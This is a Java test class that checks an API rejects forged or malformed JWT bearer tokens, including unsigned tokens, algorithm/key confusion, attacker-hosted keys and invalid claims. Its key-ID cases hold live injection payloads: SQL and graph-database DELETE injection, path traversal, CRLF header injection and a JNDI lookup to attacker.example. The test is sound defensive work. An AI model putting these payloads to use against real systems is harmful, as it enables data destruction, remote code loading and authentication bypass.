package nl.jeugdgraaf.auth;

import static com.nimbusds.jose.JWSAlgorithm.ES256;
import static com.nimbusds.jose.JWSAlgorithm.HS256;
import static com.nimbusds.jose.JWSAlgorithm.PS256;
import static com.nimbusds.jose.JWSAlgorithm.RS256;
import static com.nimbusds.jose.JWSAlgorithm.RS512;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import com.nimbusds.jose.EncryptionMethod;
import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JOSEObjectType;
import com.nimbusds.jose.JWEAlgorithm;
import com.nimbusds.jose.JWEHeader;
import com.nimbusds.jose.JWEObject;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.JWSObject;
import com.nimbusds.jose.Payload;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.crypto.RSAEncrypter;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.util.Base64;
import com.nimbusds.jose.util.Base64URL;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Set;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import nl.jeugdgraaf.api.ApiSchema;
import nl.jeugdgraaf.http.TestServer;
import nl.jeugdgraaf.problem.Problem.Code;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/// Attacks A30 (no signature), A31 (confused algorithms and keys) and A32 (claims that are not
/// good) of the list: 401 with a challenge, nothing run, nothing fetched for the attacker.
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class ForgedTokenTest {
  private static final RSAKey ATTACKER = Issuer.rsa("attacker");
  private static final Base64URL ZEROS = Base64URL.encode(new byte[64]);

  private final Issuer issuer = new Issuer();
  private final Issuer attacker = new Issuer();
  private final TestServer served =
      new TestServer(
          Authentication.byTokens(issuer.address(), Issuer.rules(), ApiSchema.builtIn().access()));
  private final AtomicInteger run = new AtomicInteger();

  ForgedTokenTest() throws IOException {}

  @BeforeAll
  void start() {
    served.answer(_ -> {
      run.incrementAndGet();
      return TestServer.text("{\"data\":{}}");
    });
  }

  @AfterAll
  void stop() {
    served.close();
    issuer.close();
    attacker.close();
  }

  private static JWSHeader.Builder rs256() {
    return new JWSHeader.Builder(RS256).keyID(Issuer.RSA.getKeyID());
  }

  private static Base64URL encoded(String text) {
    return Base64URL.encode(text);
  }

  private static String unsigned(String header) {
    return encoded(header) + "." + encoded(Issuer.claims().build().toString()) + ".";
  }

  private static String byAttacker(JWSHeader.Builder header) {
    return Issuer.signed(header, ATTACKER, Issuer.claims());
  }

  private static String withSecret(byte[] secret) {
    try {
      var token =
          new JWSObject(
              new JWSHeader.Builder(HS256).keyID(Issuer.RSA.getKeyID()).build(),
              new Payload(Issuer.claims().build().toString()));
      token.sign(new MACSigner(secret));
      return token.serialize();
    } catch (JOSEException e) {
      throw new IllegalStateException(e);
    }
  }

  private static byte[] publicKey() {
    try {
      return Issuer.RSA.toRSAPublicKey().getEncoded();
    } catch (JOSEException e) {
      throw new IllegalStateException(e);
    }
  }

  private static byte[] publicKeyInPem() {
    var lines = java.util.Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(publicKey());
    return ("-----BEGIN PUBLIC KEY-----\n" + lines + "\n-----END PUBLIC KEY-----\n")
        .getBytes(StandardCharsets.US_ASCII);
  }

  static Stream<Arguments> withoutSignature() {
    var good = Issuer.token(claims -> claims);
    return Stream.of(
        arguments("A30 none", unsigned("{\"alg\":\"none\"}")),
        arguments("A30 None", unsigned("{\"alg\":\"None\"}")),
        arguments("A30 NONE", unsigned("{\"alg\":\"NONE\"}")),
        arguments("A30 nOnE", unsigned("{\"alg\":\"nOnE\",\"typ\":\"JWT\"}")),
        arguments("A30 no alg", unsigned("{\"typ\":\"JWT\"}")),
        arguments("A30 null", unsigned("{\"alg\":null}")),
        arguments("A30 empty signature", unsigned("{\"alg\":\"RS256\",\"kid\":\"rsa-1\"}")),
        arguments("A30 signature cut off", good.substring(0, good.lastIndexOf('.'))),
        arguments("A30 signature cut short", good.substring(0, good.length() - 8)));
  }

  private Stream<Arguments> confusedKeys() {
    return Stream.of(
        arguments("A31 HS256 with the public key", withSecret(publicKey())),
        arguments("A31 HS256 with the public key in PEM", withSecret(publicKeyInPem())),
        arguments(
            "A31 ES256 with r = s = 0",
            unsigned("{\"alg\":\"ES256\",\"kid\":\"" + Issuer.EC.getKeyID() + "\"}") + ZEROS),
        arguments(
            "A31 ES256 with the key of RSA",
            unsigned("{\"alg\":\"ES256\",\"kid\":\"" + Issuer.RSA.getKeyID() + "\"}") + ZEROS),
        arguments("A31 attacker's key", byAttacker(rs256())),
        arguments(
            "A31 an algorithm that is not on the list",
            Issuer.signed(
                new JWSHeader.Builder(RS512).keyID(Issuer.RSA.getKeyID()),
                Issuer.RSA,
                Issuer.claims())),
        arguments("A31 jwk", byAttacker(new JWSHeader.Builder(RS256).jwk(ATTACKER.toPublicJWK()))),
        arguments("A31 jwk with a known kid", byAttacker(rs256().jwk(ATTACKER.toPublicJWK()))),
        arguments("A31 jku", byAttacker(rs256().jwkURL(attackersPlace()))),
        arguments("A31 x5u", byAttacker(rs256().x509CertURL(attackersPlace()))),
        arguments(
            "A31 x5c",
            byAttacker(
                rs256().x509CertChain(List.of(Base64.encode(new byte[] {48, 3, 2, 1, 0}))))));
  }

  private static Stream<Arguments> strangeKeyIds() {
    return Stream.of(
            "../../dev/null",
            "/dev/null",
            "' OR 1=1 --",
            "x'}) MATCH (n) DETACH DELETE n //",
            "${jndi:ldap://attacker.example/a}",
            "\r\nSet-Cookie: a=b",
            "http://attacker.example/key",
            "")
        .flatMap(id ->
            Stream.of(
                arguments("A31 kid " + id, byAttacker(new JWSHeader.Builder(RS256).keyID(id))),
                arguments(
                    "A31 kid " + id + " of no key",
                    Issuer.signed(
                        new JWSHeader.Builder(RS256).keyID(id + "?"),
                        Issuer.RSA,
                        Issuer.claims()))));
  }

  private URI attackersPlace() {
    attacker.publish(List.of(ATTACKER));
    return attacker.address();
  }

  private static Stream<Arguments> badClaims() {
    return Stream.of(
        arguments(
            "A32 expired",
            Issuer.token(claims -> claims.expirationTime(Issuer.in(Duration.ofSeconds(-90))))),
        arguments(
            "A32 not yet valid",
            Issuer.token(claims -> claims.notBeforeTime(Issuer.in(Duration.ofSeconds(90))))),
        arguments("A32 iss", Issuer.token(claims -> claims.issuer("https://evil.example"))),
        arguments("A32 iss with a slash", Issuer.token(claims -> claims.issuer(Issuer.NAME + "/"))),
        arguments("A32 no iss", Issuer.token(claims -> claims.issuer(null))),
        arguments("A32 aud", Issuer.token(claims -> claims.audience("another-client"))),
        arguments("A32 no aud", Issuer.token(claims -> claims.audience((String) null))),
        arguments("A32 empty aud", Issuer.token(claims -> claims.audience(List.of()))),
        arguments("A32 no exp", Issuer.token(claims -> claims.expirationTime(null))),
        arguments("A32 no sub", Issuer.token(claims -> claims.subject(null))),
        arguments("A32 exp is null", raw("\"exp\":null")),
        arguments(
            "A32 sub is null",
            Issuer.signed(
                rs256(),
                Issuer.RSA,
                Issuer.claims()
                    .build()
                    .toString()
                    .replaceFirst("\"sub\":\"[^\"]*\"", "\"sub\":null"))),
        arguments("A32 sub is empty", Issuer.token(claims -> claims.subject(" "))),
        arguments("A32 exp is no number", raw("\"exp\":\"9999999999\"")),
        arguments("A32 exp without end", raw("\"exp\":1e999")),
        arguments("A32 exp below zero", raw("\"exp\":-1")),
        arguments("A32 nbf is no number", raw("\"exp\":9999999999,\"nbf\":[]")),
        arguments("A32 a claim twice", raw("\"exp\":9999999999,\"role\":\"STEWARD\"")),
        arguments("A32 claims are a list", Issuer.signed(rs256(), Issuer.RSA, "[1]")),
        arguments("A32 claims are empty", Issuer.signed(rs256(), Issuer.RSA, "{}")),
        arguments(
            "A32 claims without bottom",
            Issuer.signed(rs256(), Issuer.RSA, "{\"a\":" + "[".repeat(5_000))));
  }

  /// The claims of a good token but for `exp`, with more; a role is there already.
  private static String raw(String more) {
    var good = Issuer.claims().expirationTime(null).build().toString();
    return Issuer.signed(
        rs256(), Issuer.RSA, good.substring(0, good.length() - 1) + "," + more + "}");
  }

  private static Stream<Arguments> strangeForms() {
    return Stream.of(
        arguments(
            "A32 crit",
            Issuer.signed(
                rs256().criticalParams(Set.of("x")).customParam("x", 1),
                Issuer.RSA,
                Issuer.claims())),
        arguments(
            "A32 crit that a library knows",
            Issuer.signed(
                rs256().criticalParams(Set.of("b64")).base64URLEncodePayload(true),
                Issuer.RSA,
                Issuer.claims())),
        arguments("A32 typ of a logout token", ofType("logout+jwt")),
        arguments("A32 typ of a proof", ofType("dpop+jwt")),
        arguments("A32 typ of an id token", ofType("id_token+jwt")),
        arguments(
            "A32 alg twice",
            unsigned("{\"alg\":\"RS256\",\"alg\":\"none\",\"kid\":\"rsa-1\"}") + ZEROS),
        arguments("A32 12 kB", Issuer.token(claims -> claims.claim("padding", "x".repeat(9_000)))),
        arguments("A32 nested JWE", nested()),
        arguments("garbage of three parts", "a.b.c"),
        arguments("nothing but dots", ".."),
        arguments("two tokens", Issuer.token(claims -> claims) + "." + "a.b"));
  }

  private static String ofType(String type) {
    return Issuer.signed(rs256().type(new JOSEObjectType(type)), Issuer.RSA, Issuer.claims());
  }

  private static String nested() {
    try {
      var sealed =
          new JWEObject(
              new JWEHeader.Builder(JWEAlgorithm.RSA_OAEP_256, EncryptionMethod.A128GCM)
                  .contentType("JWT")
                  .keyID(Issuer.RSA.getKeyID())
                  .build(),
              new Payload(Issuer.token(claims -> claims)));
      sealed.encrypt(new RSAEncrypter(Issuer.RSA));
      return sealed.serialize();
    } catch (JOSEException e) {
      throw new IllegalStateException(e);
    }
  }

  Stream<Arguments> forged() {
    return Stream.of(
            withoutSignature(), confusedKeys(), strangeKeyIds(), badClaims(), strangeForms())
        .flatMap(cases -> cases);
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("forged")
  void isNotAccepted(String attack, String token) throws Exception {
    int before = run.get();
    assertRefused(send("Bearer " + token), token);
    assertEquals(before, run.get(), attack);
    assertEquals(0, attacker.fetches(), attack);
  }

  static Stream<List<String>> otherHeaders() {
    var good = Issuer.token(claims -> claims);
    return Stream.of(
        List.of("Bearer " + good, "Bearer " + good),
        List.of("Bearer " + good, ""),
        List.of("Bearer " + good + ", Bearer " + good),
        List.of("Bearer " + good + " x"),
        List.of("Bearer " + good + ";"),
        List.of("Basic c3Rld2FyZDpzdGV3YXJk"),
        List.of("Bearer"),
        List.of("Bearer "),
        List.of(good),
        List.of("JWT " + good),
        List.of(""),
        List.of("bearer:" + good));
  }

  @ParameterizedTest
  @MethodSource("otherHeaders")
  void anotherHeaderIsNotAccepted(List<String> headers) throws Exception {
    int before = run.get();
    assertRefused(send(headers.toArray(String[]::new)), headers.getFirst());
    assertEquals(before, run.get());
  }

  /// A32. Too long for any header: ended before it is looked at.
  @Test
  void aTokenOfOneMegabyteIsNotRead() throws Exception {
    int before = run.get();
    try {
      assertEquals(431, send("Bearer " + "x".repeat(1_000_000)).statusCode());
    } catch (IOException _) {
      // The server closed the connection while the client was still writing.
    }
    assertEquals(before, run.get());
  }

  @Test
  void aRefusalComesBeforeTheDocumentIsRead() throws Exception {
    var request =
        served
            .at("/graphql?query=%7B")
            .header("accept", TestServer.GRAPHQL)
            .header("authorization", "Bearer x")
            .build();
    assertRefused(served.send(request), "Bearer x");
  }

  static Stream<Arguments> good() {
    return Stream.of(
        arguments("RS256", Issuer.token(claims -> claims)),
        arguments(
            "PS256",
            Issuer.signed(
                new JWSHeader.Builder(PS256).keyID(Issuer.RSA.getKeyID()),
                Issuer.RSA,
                Issuer.claims())),
        arguments(
            "ES256",
            Issuer.signed(
                new JWSHeader.Builder(ES256).keyID(Issuer.EC.getKeyID()),
                Issuer.EC,
                Issuer.claims())),
        arguments("typ at+jwt", ofType("at+jwt")),
        arguments("typ JWT", ofType("JWT")),
        arguments(
            "A32 expired, but clocks differ",
            Issuer.token(claims -> claims.expirationTime(Issuer.in(Duration.ofSeconds(-30))))),
        arguments(
            "A32 not yet valid, but clocks differ",
            Issuer.token(claims -> claims.notBeforeTime(Issuer.in(Duration.ofSeconds(30))))),
        arguments(
            "several audiences",
            Issuer.token(claims -> claims.audience(List.of("other", Issuer.AUDIENCE)))),
        arguments(
            "foreign addresses in the header are not looked at",
            Issuer.signed(
                rs256().jwkURL(URI.create("http://127.0.0.1:1/")).jwk(ATTACKER.toPublicJWK()),
                Issuer.RSA,
                Issuer.claims())));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("good")
  void aGoodTokenIsAccepted(String name, String token) throws Exception {
    assertEquals(200, send("Bearer " + token).statusCode(), name);
    assertEquals(200, send("bearer  " + token).statusCode(), name);
  }

  private HttpResponse<String> send(String... headers) throws IOException, InterruptedException {
    var request = served.asking();
    for (var header : headers) {
      request.header("authorization", header);
    }
    return served.send(request.build());
  }

  private static void assertRefused(HttpResponse<String> response, String sent) {
    TestServer.assertProblem(401, Code.UNAUTHENTICATED, response);
    assertEquals(
        List.of(
            "Bearer error=\"invalid_token\", error_description=\""
                + HttpProblem.NOT_ACCEPTED
                + "\""),
        response.headers().allValues("www-authenticate"));
    assertTrue(sent.length() < 10 || !response.body().contains(sent), response::body);
    assertEquals("no-store", response.headers().firstValue("cache-control").orElse(""));
    assertEquals(List.of("Accept, Authorization, Purpose"), response.headers().allValues("vary"));
  }
}
